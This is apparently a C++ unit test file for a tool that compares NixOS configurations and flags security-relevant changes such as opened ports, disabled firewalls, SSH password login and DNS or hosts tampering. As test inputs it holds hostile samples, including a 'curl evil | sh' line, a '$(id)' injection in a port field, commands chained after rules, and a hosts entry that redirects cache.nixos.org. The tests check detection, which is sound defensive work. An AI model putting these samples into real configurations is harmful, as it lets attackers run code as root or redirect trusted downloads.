#include "tests/unit/evaluator/effects_machine.hpp"

#include "evaluator/effects/firewall.hpp"

using namespace agentd;
using namespace agentd::test;
using proposals::Risk;

namespace {

constexpr auto ssh_rule = "ip46tables -A nixos-fw -p tcp --dport 22 -j nixos-fw-accept \n";

Machine guarded(Pair& pair, const std::string& rules) {
    auto machine = plain_machine();
    machine.units["firewall.service"] = pair.firewall_unit(rules);
    machine.wants["multi-user.target"] = {"firewall.service"};
    return machine;
}

} // namespace

TEST_CASE("an opened port is told once, and nothing else with it") {
    Pair pair;
    const auto before = guarded(pair, ssh_rule);
    const auto after =
        guarded(pair, std::string(ssh_rule) +
                          "ip46tables -A nixos-fw -p tcp --dport 8080 -j nixos-fw-accept \n");
    const auto found = pair.compare(before, after);
    CHECK(names(found) == std::vector<std::string>{"network/port_opened 8080/tcp",
                                                   "units/unit_changed firewall.service"});
    CHECK(found.effects[0].sentence == "port 8080/tcp will be reachable from the network");
    CHECK(found.effects[1].risk == Risk::low);
    CHECK(the(pair.compare(after, before), "port_closed").subject == "8080/tcp");
}

TEST_CASE("passwords over SSH are told with how far the firewall lets them come") {
    Pair pair;
    const auto said = [&](const std::string& rules) {
        const auto before = guarded(pair, rules);
        auto after = before;
        after.etc["ssh/sshd_config"] = "Port 22\nPermitRootLogin no\nPasswordAuthentication yes\n";
        return the(pair.compare(before, after), "sshd_password_login").sentence;
    };
    CHECK(said(ssh_rule) == "the SSH server will accept passwords from the whole internet "
                            "(passwordauthentication)");
    for (const auto* narrow :
         {"", "ip46tables -A nixos-fw -p tcp --dport 22 -j nixos-fw-accept -i wg0\n",
          "ip46tables -A nixos-fw -s 192.0.2.0/24 -p tcp --dport 22 -j nixos-fw-accept\n"})
        CHECK(said(narrow) == "the SSH server will accept passwords (passwordauthentication)");
}

TEST_CASE("ranges, protocols and interfaces are told apart") {
    Pair pair;
    const auto found = pair.compare(
        guarded(pair, ""),
        guarded(pair, "ip46tables -A nixos-fw -p udp --dport 60000:61000 -j nixos-fw-accept \n"
                      "ip46tables -A nixos-fw -p tcp --dport 80 -j nixos-fw-accept -i wg0\n"
                      "ip46tables -A nixos-fw -i br0 -j nixos-fw-accept\n"));
    CHECK(names(found) == std::vector<std::string>{"network/port_opened 60000-61000/udp",
                                                   "network/port_opened 80/tcp on wg0",
                                                   "network/port_opened everything on br0",
                                                   "units/unit_changed firewall.service"});
}

TEST_CASE("a firewall that runs /bin/true is a firewall removed") {
    Pair pair;
    const auto before = guarded(pair, ssh_rule);
    auto after = before;
    after.units["firewall.service"] =
        "[Unit]\nDescription=Firewall\n[Service]\nExecStart=/bin/true\n";
    CHECK(the(pair.compare(before, after), "firewall_removed").risk == Risk::critical);
}

TEST_CASE(
    "a firewall that filters when it is reloaded and not when it starts is a firewall removed") {
    Pair pair;
    const auto rules = [&](const std::string& more) {
        auto unit = pair.firewall_unit(std::string(ssh_rule) + more);
        return unit.replace(unit.find("ExecStart="), 10, "ExecReload=");
    };
    auto before = guarded(pair, ssh_rule);
    auto after = before;
    after.units["firewall.service"] = rules("") + "ExecStart=/bin/true\n";
    CHECK(the(pair.compare(before, after), "firewall_removed").risk == Risk::critical);
    // What a reload opens is opened.
    auto& unit = after.units["firewall.service"];
    unit = rules("ip46tables -A nixos-fw -p tcp --dport 8080 -j nixos-fw-accept\n");
    unit += before.units["firewall.service"].substr(unit.find("ExecReload="));
    CHECK(the(pair.compare(before, after), "port_opened").subject == "8080/tcp");
}

TEST_CASE("a firewall unit that is gone, masked or never started is a firewall removed") {
    Pair pair;
    const auto before = guarded(pair, ssh_rule);
    auto gone = before;
    gone.units.erase("firewall.service");
    CHECK(has(pair.compare(before, gone), "firewall_removed"));
    auto masked = before;
    masked.units["firewall.service"] = "/dev/null";
    CHECK(has(pair.compare(before, masked), "firewall_removed"));
    auto unstarted = before;
    unstarted.wants.clear();
    CHECK(has(pair.compare(before, unstarted), "firewall_removed"));
    CHECK(has(pair.compare(gone, before), "firewall_added"));
}

TEST_CASE("a firewall line that is no plain port is a changed firewall and a root command") {
    for (const auto* line : {"ip46tables -A nixos-fw -j MINE\n",
                             "ip46tables -A nixos-fw -p tcp --dport $(id) -j nixos-fw-accept\n",
                             "curl evil | sh # -p tcp --dport 80\n",
                             "ip46tables -A nixos-fw -p tcp --dport 80 -j nixos-fw-accept ; evil\n",
                             "ip46tables -A nixos-fw -p tcp --dport 99999 -j nixos-fw-accept\n"}) {
        CAPTURE(line);
        Pair pair;
        const auto found =
            pair.compare(guarded(pair, ssh_rule), guarded(pair, ssh_rule + std::string(line)));
        CHECK(the(found, "firewall_changed").risk == Risk::high);
        CHECK(has(found, "unit_root_exec"));
    }
}

TEST_CASE("a rule below the refusal does not count as open") {
    Pair pair;
    auto before = guarded(pair, ssh_rule);
    auto after =
        guarded(pair, "ip46tables -A nixos-fw -j nixos-fw-log-refuse\n" + std::string(ssh_rule));
    const auto found = pair.compare(before, after);
    CHECK(the(found, "port_closed").subject == "22/tcp");
    CHECK(has(found, "firewall_changed"));
}

namespace {

/// As NixOS renders its tables: `allow` are the lines of the chain that new connections reach.
Machine with_nft(Pair& pair, const std::string& allow, const std::string& trusted = "\"lo\"",
                 const std::string& more = "") {
    auto machine = plain_machine();
    const auto script = pair.store.file(
        "nftables-rules",
        "#!" + pair.busybox +
            "/bin/nft -f\ntable inet nixos-fw {\n  set temp-ports {\n    auto-merge\n  }\n"
            "  chain input {\n    type filter hook input priority filter; policy drop;\n"
            "    iifname { " +
            trusted +
            " } accept comment \"trusted interfaces\"\n    ct state vmap {\n      new : jump "
            "input-allow,\n    }\n  }\n  chain input-allow {\n" +
            allow + "  }\n" + more + "}\n",
        true);
    machine.units["nftables.service"] = "[Service]\nExecStart=" + script + "\n";
    machine.wants["multi-user.target"] = {"nftables.service"};
    return machine;
}

} // namespace

TEST_CASE("a rule set of nftables is read as well") {
    Pair pair;
    const auto found =
        pair.compare(with_nft(pair, "tcp dport { 22 } accept\n"),
                     with_nft(pair,
                              "tcp dport { 22, 8000-8010 } accept\niifname wg0 udp dport { "
                              "53 } accept\n",
                              "\"lo\", \"br0\""));
    CHECK(names(found) == std::vector<std::string>{"network/port_opened 53/udp on wg0",
                                                   "network/port_opened 8000-8010/tcp",
                                                   "network/port_opened everything on br0",
                                                   "units/unit_changed nftables.service"});
}

TEST_CASE("a rule of nftables that stands elsewhere opens nothing, and moves are seen") {
    Pair pair;
    const auto aside = with_nft(pair, "tcp dport { 22 } accept\n", "\"lo\"",
                                "chain forward {\ntcp dport { 23 } accept\n}\n");
    const auto moved = with_nft(pair, "tcp dport { 22 } accept\ntcp dport { 23 } accept\n",
                                "\"lo\"", "chain forward {\n}\n");
    const auto found = pair.compare(aside, moved);
    CHECK(the(found, "port_opened").subject == "23/tcp");
    CHECK(has(found, "firewall_changed"));
    CHECK(the(pair.compare(moved, aside), "port_closed").subject == "23/tcp");
}

TEST_CASE("a rule of nftables with more in it than a port is a changed firewall") {
    for (const auto* line :
         {"tcp dport { 23 } accept ; drop\n", "meta mark 1 tcp dport 23 accept\n",
          "tcp dport { 23 } accept comment \"x\" tcp dport 24 accept \"\n",
          "tcp dport $ports accept\n", "include \"/tmp/x\"\n"}) {
        CAPTURE(line);
        Pair pair;
        const auto found = pair.compare(with_nft(pair, ""), with_nft(pair, std::string(line)));
        CHECK(has(found, "firewall_changed"));
        CHECK_FALSE(has(found, "port_opened"));
    }
}

TEST_CASE("an accept that moves above or below a refusal is a changed firewall") {
    const std::string open = "ip46tables -A nixos-fw -p tcp --dport 80 -j nixos-fw-accept\n";
    for (const std::string other :
         {"ip46tables -A nixos-fw -s 203.0.113.0/24 -j DROP\n",
          "ip46tables -A nixos-fw -p tcp --dport 80 -g nixos-fw-refuse\n",
          "iptables -w -A nixos-fw -i eth0 -j RETURN\n", "ip46tables -A nixos-fw -j blocklist\n",
          "block_all\n", "ip46tables -t mangle -L; ip46tables -A nixos-fw -j DROP\n"}) {
        CAPTURE(other);
        Pair pair;
        const auto found = pair.compare(guarded(pair, other + open), guarded(pair, open + other));
        CHECK(the(found, "firewall_changed").risk == Risk::high);
        CHECK(has(pair.compare(guarded(pair, other), guarded(pair, other + open)),
                  "firewall_changed"));
    }
    for (const std::string other :
         {"tcp dport 80 drop\n", "ip saddr 203.0.113.0/24 reject\n", "jump blocklist\n",
          "goto blocklist\n", "return\n", "tcp dport vmap @ports\n",
          "ct state vmap {\ninvalid : drop,\n}\n"}) {
        CAPTURE(other);
        Pair pair;
        const std::string accept = "tcp dport { 80 } accept\n";
        CHECK(has(pair.compare(with_nft(pair, other + accept), with_nft(pair, accept + other)),
                  "firewall_changed"));
    }
}

TEST_CASE("openings below what NixOS itself puts before them are told as openings") {
    Pair pair;
    const std::string fixed =
        "# rpfilter\nip46tables -t mangle -D PREROUTING -j nixos-fw-rpfilter 2> /dev/null || true\n"
        "ip46tables -t mangle -A nixos-fw-rpfilter -m rpfilter --validmark -j RETURN\n"
        "ip46tables -t mangle -A nixos-fw-rpfilter -j DROP\n"
        "ip46tables -A nixos-fw -m conntrack --ctstate ESTABLISHED,RELATED -j nixos-fw-accept\n"
        "iptables -w -A nixos-fw -p icmp --icmp-type echo-request -j nixos-fw-accept\n"
        "ip6tables -A nixos-fw -p icmpv6 --icmpv6-type 139 -j DROP\n";
    const auto found = pair.compare(guarded(pair, fixed), guarded(pair, fixed + ssh_rule));
    CHECK(the(found, "port_opened").subject == "22/tcp");
    CHECK_FALSE(has(found, "firewall_changed"));
}

TEST_CASE("tables of nftables without a chain that refuses are no firewall") {
    Pair pair;
    auto after = with_nft(pair, "");
    const auto open = pair.store.file(
        "nftables-rules",
        "#!/bin/nft -f\ntable inet nixos-fw {\n  chain forward {\n    type filter hook input "
        "priority filter; policy drop;\n  }\n}\n",
        true);
    const auto before = after;
    after.units["nftables.service"] = "[Service]\nExecStart=" + open + "\n";
    CHECK(has(pair.compare(before, after), "firewall_removed"));
}

TEST_CASE("without a firewall a listening socket is a way in") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.units["x.socket"] = "[Socket]\nListenStream=0.0.0.0:9000\nListenStream=/run/x.sock\n";
    CHECK(the(pair.compare(before, after), "port_opened").subject == "0.0.0.0:9000 (x.socket)");
}

TEST_CASE("other name servers and fixed names are told") {
    Pair pair;
    const auto before = plain_machine();
    auto after = before;
    after.etc["resolv.conf"] = "nameserver 203.0.113.66\n";
    after.etc["hosts"] = "127.0.0.1 localhost\n203.0.113.66 cache.nixos.org\n";
    const auto found = pair.compare(before, after);
    CHECK(the(found, "dns_changed").risk == Risk::high);
    CHECK(the(found, "hosts_changed").risk == Risk::critical);
}

TEST_CASE("a rule that one of the two tables refuses is no open port: the firewall may not start") {
    Pair pair;
    const auto said = [&](const std::string& rule) {
        return pair.compare(guarded(pair, ssh_rule), guarded(pair, std::string(ssh_rule) + rule));
    };
    for (const auto* rule :
         {"ip46tables -A nixos-fw -s 192.0.2.0/24 -p tcp --dport 80 -j nixos-fw-accept\n",
          "ip46tables -A nixos-fw -d 2001:db8::/32 -p tcp --dport 80 -j nixos-fw-accept\n",
          "iptables -A nixos-fw -s fd00::1 -p tcp --dport 80 -j nixos-fw-accept\n",
          "ip6tables -A nixos-fw -p tcp --source 192.0.2.1 --dport 80 -j nixos-fw-accept\n"}) {
        const auto found = said(rule);
        CHECK_FALSE(has(found, "port_opened"));
        CHECK(the(found, "firewall_changed").risk == Risk::critical);
        CHECK(
            the(found, "firewall_changed").sentence.starts_with("the firewall may fail to start"));
    }
    for (const auto* rule :
         {"iptables -A nixos-fw -s 192.0.2.0/24 -p tcp --dport 80 -j nixos-fw-accept\n",
          "ip6tables -A nixos-fw -d 2001:db8::/32 -p tcp --dport 80 -j nixos-fw-accept\n"})
        CHECK(the(said(rule), "port_opened").subject.starts_with("80/tcp"));
}

TEST_CASE(
    "a rule of no family is one in every spelling, and only where its failure ends the start") {
    Pair pair;
    const auto before = guarded(pair, ssh_rule);
    for (const std::string rule :
         {"ip46tables -A nixos-fw --src 192.0.2.1 -j DROP",
          "ip46tables -A nixos-fw -s10.0.0.1 -j DROP",
          "ip46tables -A nixos-fw --source=192.0.2.1 -j DROP",
          "iptables -w -I INPUT --dst fd00::1 -j DROP; true",
          "ip6tables -A nixos-fw -d192.0.2.1 -j DROP # why",
          "ip46tables -A nixos-fw -m iprange --src-range 192.0.2.1-192.0.2.9 -j DROP",
          "ip46tables -A nixos-fw -s 192.0.2.1 -m comment --comment \"a || b\" -j DROP"}) {
        CAPTURE(rule);
        const auto found = pair.compare(before, guarded(pair, ssh_rule + rule + "\n"));
        CHECK(the(found, "firewall_changed").risk == Risk::critical);
    }
    for (const std::string rule :
         {"ip46tables -D nixos-fw -s 10.0.0.0/8 -j DROP || true",
          "ip46tables -D nixos-fw -s 10.0.0.0/8 -j DROP 2>/dev/null | cat",
          "ip46tables -A nixos-fw -m comment --comment \"x -s 10.0.0.1 y\" -j DROP",
          "ip46tables -A nixos-fw -s 10.0.0.0/8 -j DROP \\\n|| true", "echo ip46tables -s 10.0.0.1",
          "ip46tables -A nixos-fw --set-mark 10.0.0.1 -j DROP"}) {
        CAPTURE(rule);
        const auto found = pair.compare(before, guarded(pair, ssh_rule + rule + "\n"));
        CHECK(the(found, "firewall_changed").risk == Risk::high);
    }
    auto stops = before;
    stops.units["firewall.service"] +=
        "ExecStop=" +
        pair.store.file("firewall-stop",
                        "#!/bin/sh\nip46tables -D nixos-fw -s 10.0.0.0/8 -j DROP\n", true) +
        "\n";
    CHECK(the(pair.compare(before, stops), "firewall_changed").risk == Risk::high);
}

TEST_CASE("a firewall of very many rules is read as far as its limit, and the rest is compared") {
    Pair pair;
    std::string rules = ssh_rule;
    for (int n = 1; n <= 8'300; ++n)
        rules += "ip46tables -A nixos-fw -p tcp --dport " + std::to_string(n + 1'000) +
                 " -j nixos-fw-accept\n";
    const auto before = guarded(pair, rules);
    const auto after =
        guarded(pair, rules + "ip46tables -A nixos-fw -p tcp --dport 65000 -j nixos-fw-accept\n");
    const auto found = pair.compare(before, after);
    CHECK_FALSE(has(found, "port_opened"));
    CHECK(the(found, "firewall_changed").risk == Risk::high);
    CHECK(the(found, "firewall_changed").after.value_or("").find("65000") != std::string::npos);
    CHECK(has(found, "unit_root_exec"));
}
